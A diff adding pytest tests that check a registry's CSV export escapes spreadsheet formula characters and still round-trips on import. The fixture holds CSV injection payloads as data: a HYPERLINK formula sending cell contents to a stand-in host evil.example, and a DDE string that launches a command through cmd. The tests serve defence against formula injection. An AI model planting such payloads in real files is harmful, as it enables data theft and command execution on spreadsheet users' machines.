@@ -200,6 +200,120 @@ def test_the_demo_register_round_trips_and_moves_to_another_body(body, other_bod
     assert {kind: export_csv(organization=other_body, kind=kind) for kind in ORDER} == exports
 
 
+@pytest.fixture
+def formula_register(body):
+    """Values a spreadsheet would take for formulas: starting with =, +, -, @, a tab or a carriage
+    return, and a value that starts with the quote that protects them."""
+    program = CredentialProgram.objects.create(
+        organization=body, code="cpx", name="Certified Practitioner of Examples", abbreviation="CPX"
+    )
+    MembershipType.objects.create(
+        organization=body, code="agency", name="Member agency", kind="organization"
+    )
+    person = Person.objects.create(
+        organization=body,
+        external_id="-42",
+        given_name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        family_name="-",
+        phone="+1 555 0100",
+        city="@SUM(1+1)",
+        region="'=quoted",
+    )
+    agency = Agency.objects.create(
+        organization=body,
+        external_id="A-1",
+        legal_name="\tTab Partners",
+        trade_names=["=cmd|' /C calc'!A0", "@Recovery"],
+        registration_numbers=[{"authority": "", "number": "-7"}],
+        address="\rReturn Street",
+        phone="-",
+    )
+    Membership.objects.create(
+        organization=body,
+        membership_type=MembershipType.objects.get(code="agency"),
+        agency=agency,
+        external_id="+M1",
+        number="GOE-1",
+        status="applicant",
+    )
+    Credential.objects.create(
+        program=program,
+        holder=person,
+        number="CPX-1",
+        external_id="C-1",
+        status="active",
+        issued_on=dt.date(2025, 1, 1),
+        expires_on=NEXT_YEAR,
+        conditions="-- reviewed monthly\n=no formulas here",
+    )
+    return body
+
+
+def test_values_a_spreadsheet_would_run_as_formulas_are_exported_as_text(formula_register):
+    exports = {kind: export_csv(organization=formula_register, kind=kind) for kind in ORDER}
+    person = rows(exports["people"])[0]
+    assert person == {
+        "external_id": "'-42",
+        "given_name": '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "family_name": "'-",
+        "email": "",
+        "phone": "'+1 555 0100",
+        "city": "'@SUM(1+1)",
+        "region": "''=quoted",  # one more quote: import removes one
+        "country": "",
+    }
+    agency = rows(exports["agencies"])[0]
+    assert (agency["legal_name"], agency["trade_names"], agency["registration_numbers"]) == (
+        "'\tTab Partners",
+        "'=cmd|' /C calc'!A0; @Recovery",
+        "'-7",
+    )
+    assert (agency["address"], agency["phone"]) == ("'\rReturn Street", "'-")
+    membership = rows(exports["memberships"])[0]
+    assert (membership["external_id"], membership["agency"]) == ("'+M1", "A-1")
+    credential = rows(exports["credentials"])[0]
+    assert (credential["holder"], credential["conditions"]) == (
+        "'-42",
+        "'-- reviewed monthly\n=no formulas here",  # only the start of a cell counts
+    )
+    for kind in ORDER:
+        for row in rows(exports[kind]):
+            assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row.values())
+
+
+def test_an_export_with_formula_characters_imports_back_unchanged(formula_register, other_body):
+    exports = {kind: export_csv(organization=formula_register, kind=kind) for kind in ORDER}
+    assert reimport(formula_register) == {
+        "people": (0, 0, 1),
+        "agencies": (0, 0, 1),
+        "memberships": (0, 0, 1),
+        "credentials": (0, 0, 1),
+    }
+    assert Person.objects.get(external_id="-42").region == "'=quoted"
+    # Into another body, as new records: the values arrive as they were.
+    CredentialProgram.objects.create(
+        organization=other_body, code="cpx", name="CPX", abbreviation="CPX"
+    )
+    MembershipType.objects.create(
+        organization=other_body, code="agency", name="Member agency", kind="organization"
+    )
+    for kind in ORDER:
+        report = import_csv(organization=other_body, data=exports[kind].encode(), dry_run=False)
+        assert (report.ok, report.created) == (True, 1), (kind, report.errors)
+    assert {kind: export_csv(organization=other_body, kind=kind) for kind in ORDER} == exports
+    copy = Person.objects.get(organization=other_body)
+    assert (copy.given_name, copy.family_name, copy.phone, copy.region) == (
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "-",
+        "+1 555 0100",
+        "'=quoted",
+    )
+    assert Agency.objects.get(organization=other_body).trade_names == [
+        "=cmd|' /C calc'!A0",
+        "@Recovery",
+    ]
+
+
 def test_an_unknown_kind_is_refused(body):
     with pytest.raises(ValueError, match="unknown kind 'sanctions'"):
         export_csv(organization=body, kind="sanctions")
